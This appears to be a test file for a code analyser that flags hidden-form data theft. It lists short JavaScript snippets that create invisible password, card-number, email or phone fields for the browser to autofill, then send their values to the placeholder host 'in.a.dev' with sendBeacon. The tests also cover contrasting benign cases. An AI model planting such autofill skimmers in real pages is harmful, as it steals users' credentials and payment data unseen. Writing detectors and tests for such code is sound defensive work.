import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';

const make = "const field = document.createElement('input');";
const send =
  "setTimeout(() => navigator.sendBeacon('https://in.a.dev/', field.value), 900); document.body.append(field);";

const baits: string[] = [
  `${make} field.type = 'password'; field.style.opacity = '0'; ${send}`,
  `${make} field.setAttribute('autocomplete', 'cc-number'); field.style.cssText = 'left: -900px; position: fixed'; ${send}`,
  `${make} Object.assign(field, { type: 'email', hidden: true }); ${send}`,
  `${make} field.type = 'tel'; const box = document.createElement('div'); box.style.height = 0; box.append(field); ${send}`,
  `const field = document.createElement('input'), other = document.createElement('input'); field.autocomplete = 'email'; [field, other].forEach((each) => { each.style.visibility = 'hidden'; }); ${send}`,
  `${make} field.type = 'email'; field.style.display = 'block'; field.style.display = 'none'; ${send}`,
  `${make} field.type = 'email'; field.hidden = true; field.style.opacity = 0; onclick = () => { field.hidden = false; }; ${send}`,
  `class Box { make(kind) { const field = document.createElement('input'); field.autocomplete = kind; field.width = 0; ${send} } } new Box().make('username');`,
];

const sheet =
  "const style = document.createElement('style'); style.textContent = '.tide-f { opacity: 0 }'; document.head.append(style);";
baits.push(
  `${sheet} ${make} field.type = 'email'; field.className = 'tide-f'; ${send}`,
  `${sheet} ${make} field.type = 'email'; const box = document.createElement('p'); box.classList.add('tide-f', 'tide-g'); box.append(field); ${send}`,
);

const others: readonly string[] = [
  `${sheet} ${make} field.type = 'email'; field.className = 'tide-g'; ${send}`,
  `${sheet} ${make} field.type = 'email'; field.className = 'tide-f'; onclick = () => field.classList.remove('tide-f'); ${send}`,
  `${make} field.type = 'password'; field.style.opacity = '1'; ${send}`,
  `${make} field.type = 'file'; field.hidden = true; ${send}`,
  `${make} field.type = 'search'; field.autocomplete = 'off'; field.hidden = true; ${send}`,
  `${make} field.type = 'tel'; field.hidden = true; field.value = String(Date.now()); ${send}`,
  `${make} field.type = 'email'; const box = document.createElement('div'); box.style.display = 'none'; box.append(field); onclick = () => { box.style.display = 'block'; }; ${send}`,
];

const isTaken = (code: string): boolean =>
  factsOf(code).flows.some(
    ({ source, sink }) => source.kind === 'form-input' && sink.kind === 'network',
  );

describe('a field of a script', () => {
  for (const code of baits)
    it(`is filled in by the browser and read: ${code.slice(0, 160)}`, () => {
      assert.ok(isTaken(code));
    });
  for (const code of others)
    it(`is its own: ${code.slice(0, 160)}`, () => {
      assert.equal(isTaken(code), false);
    });
});
